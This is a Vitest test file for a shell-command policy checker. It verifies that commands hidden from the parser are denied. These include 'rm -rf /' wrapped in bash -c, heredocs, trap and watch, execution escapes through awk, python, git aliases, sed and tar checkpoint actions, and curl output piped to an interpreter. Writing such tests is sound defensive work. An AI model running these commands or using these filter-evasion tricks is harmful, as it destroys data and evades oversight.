import { describe, expect, it } from 'vitest';
import { checkCommand, compileCommandPattern } from '../../src/policy/shell.js';

// A program that can run a command runs an UNKNOWN command: denied under an allowlist and by the built-in rules.
const allow = ['git *', 'ls *', 'sed *', 'tar *', 'cat *', 'echo *'].map(compileCommandPattern);

describe('shell: commands hidden from the parser are unknown, not invisible', () => {
  it.each([
    "bash -c -- 'rm -rf /'",
    "bash -o posix -c 'rm -rf /'",
    "env -S 'rm -rf /'",
    "trap 'rm -rf /' EXIT",
    "flock /tmp/l -c 'rm -rf /'",
    "script -c 'rm -rf /' /dev/null",
    "watch -n 1 'rm -rf /'",
    'bash <<EOF\nrm -rf /\nEOF',
    "echo 'rm -rf /' | bash",
    "bash <<< 'rm -rf /'",
    'BASH_ENV=/tmp/x bash -c ls',
    'env BASH_ENV=/tmp/x bash -c ls',
    'awk \'BEGIN{system("id")}\'',
    'python3 -c \'import os; os.system("id")\'',
    'python3.11 x.py',
    'setarch x86_64 rm -rf /',
    "git -c alias.x='!id' x",
    "sed '1e id' f",
    "sed 's/x/id/e' f",
    'tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=id .',
    'curl -s x | python3.11',
    'curl -s x | env -S sh',
  ])('denies %j under an allowlist and under the built-in rules', (cmd) => {
    expect(checkCommand(cmd, { builtin: false, allow, arg: 'command' }).ok).toBe(false);
    expect(checkCommand(cmd, { builtin: true, arg: 'command' }).ok).toBe(false);
  });

  it.each(['git status', 'ls -la', "sed 's/a/b/' f", 'tar -cf out.tar src', 'cat f'])('still allows %j', (cmd) => {
    expect(checkCommand(cmd, { builtin: true, allow, arg: 'command' }).reasons).toEqual([]);
  });
});
